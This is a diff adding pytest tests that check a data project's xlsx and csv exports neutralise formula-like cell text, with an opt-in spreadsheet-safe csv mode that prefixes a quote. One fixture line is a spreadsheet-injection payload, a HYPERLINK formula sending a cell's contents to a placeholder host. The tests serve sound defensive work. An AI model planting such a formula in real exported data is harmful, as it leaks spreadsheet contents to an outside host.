@@ -8,7 +8,7 @@ from analysis.cli import main
 from analysis.dictionary import column_descriptions
 from analysis.export import FORMATS, WORKBOOK, codebook, export, frames
 from analysis.schemas import COLUMNS
-from analysis.tables import load_tables
+from analysis.tables import TABLES, load_tables
 
 
 @pytest.fixture(scope="module")
@@ -98,3 +98,91 @@ def test_exported_files_have_the_permissions_of_a_plain_open(tmp_path):
 
     for path in export(load_tables(), "csv", tmp_path):
         assert path.stat().st_mode & 0o777 == FILE_MODE, path  # not mkstemp's owner-only 0600
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'
+
+
+def _with_formulas(data):
+    """Report 007's district, anonymised as ++区 in the tables, plus text that spreadsheets would run."""
+    from tests.test_tables import set_cell
+
+    set_cell(data / "facts.csv", 2, "note", FORMULA)
+    set_cell(data / "facts.csv", 3, "note", "@SUM(1+1)")
+    set_cell(data / "facts.csv", 4, "note", "#N/A")  # openpyxl would store it as an error value
+    return load_tables(data)
+
+
+def test_workbook_text_is_text_never_a_formula(data_copy, tmp_path):
+    import openpyxl
+
+    tables = _with_formulas(data_copy)
+    export(tables, "xlsx", tmp_path)
+    book = openpyxl.load_workbook(tmp_path / WORKBOOK)  # formulas stay formulas when read this way
+    facts = book["facts"]
+    header = [c.value for c in facts[1]]
+    note, value = header.index("note") + 1, header.index("value") + 1
+    for row, text in ((2, FORMULA), (3, "@SUM(1+1)"), (4, "#N/A")):
+        cell = facts.cell(row=row, column=note)
+        assert (cell.data_type, cell.value) == ("s", text)
+    # data/facts.csv row 2: 88个 towns surveyed; row 54: 401項 powers delegated
+    assert [(facts.cell(row=r, column=value).data_type, facts.cell(row=r, column=value).value)
+            for r in (2, 54)] == [("n", 88), ("n", 401)]
+    counties = book["counties"]
+    anonymised = [c for c in counties["B"] if c.value == "++区"]  # name_zh of data/counties.csv row 13
+    assert [(c.row, c.data_type) for c in anonymised] == [(13, "s")]
+    plus = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("++")]
+    assert len(plus) == 19 and {c.data_type for c in plus} == {"s"}  # 17 in data/*.csv, 2 in the audit of the checks
+    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type in ("f", "e")]
+
+
+def _csv_cells(path):
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as f:
+        return list(csv.reader(f))
+
+
+def test_csv_holds_values_as_they_are_unless_made_spreadsheet_safe(data_copy, tmp_path):
+    tables = _with_formulas(data_copy)
+    export(tables, "csv", tmp_path / "plain")
+    export(tables, "csv", tmp_path / "safe", spreadsheet_safe=True)
+    plain, safe = _csv_cells(tmp_path / "plain" / "facts.csv"), _csv_cells(tmp_path / "safe" / "facts.csv")
+    note, entity = plain[0].index("note"), plain[0].index("entity")
+    assert [plain[r][note] for r in (1, 2, 3)] == [FORMULA, "@SUM(1+1)", "#N/A"]
+    assert [safe[r][note] for r in (1, 2, 3)] == ["'" + FORMULA, "'@SUM(1+1)", "#N/A"]
+    assert (plain[134][entity], safe[134][entity]) == ("++区 全区 district-wide", "'++区 全区 district-wide")  # row 135
+    numeric = {"value", "low", "high"}
+    defused = 0
+    for name in [*TABLES, "audit", "audit_checks", "codebook"]:
+        plain, safe = _csv_cells(tmp_path / "plain" / f"{name}.csv"), _csv_cells(tmp_path / "safe" / f"{name}.csv")
+        assert plain[0] == safe[0] and len(plain) == len(safe), name
+        for plain_row, safe_row in zip(plain[1:], safe[1:]):
+            for column, a, b in zip(plain[0], plain_row, safe_row):
+                if a.startswith(("=", "+", "-", "@")) and not (name == "facts" and column in numeric):
+                    assert b == "'" + a, (name, column, a)
+                    defused += 1
+                else:
+                    assert b == a, (name, column, a)
+    assert defused == 19 + 2  # the cells that begin ++ (17 in data/*.csv, 2 in the audit of the checks), the 2 planted
+
+
+def test_numbers_are_never_defused_and_only_formula_starts_are():
+    from analysis.export import defuse_formulas
+
+    frame = pd.DataFrame({"text": ["=1+1", "+86 10", "-3", "@A1", "\tx", "\rx", "a=b", "", "区"],
+                          "number": [-3.0, 1.0, float("nan"), 0.0, -0.5, 2.0, 3.0, 4.0, 5.0]})
+    got = defuse_formulas(frame)
+    assert list(got["text"]) == ["'=1+1", "'+86 10", "'-3", "'@A1", "'\tx", "'\rx", "a=b", "", "区"]
+    assert got["number"].equals(frame["number"])
+    assert list(frame["text"])[0] == "=1+1"  # the caller's frame is left as it was
+
+
+def test_spreadsheet_safe_is_refused_for_formats_that_keep_text_as_text(tmp_path, capsys):
+    with pytest.raises(SystemExit) as stop:
+        main(["export", "--format", "xlsx", "--spreadsheet-safe", "--out", str(tmp_path / "x")])
+    assert stop.value.code == 2
+    assert "argument --spreadsheet-safe: for --format csv only (xlsx keeps text as text)" in capsys.readouterr().err
+    assert not (tmp_path / "x").exists()
+    with pytest.raises(ValueError, match="spreadsheet_safe is for csv files"):
+        export(load_tables(), "parquet", tmp_path / "p", spreadsheet_safe=True)
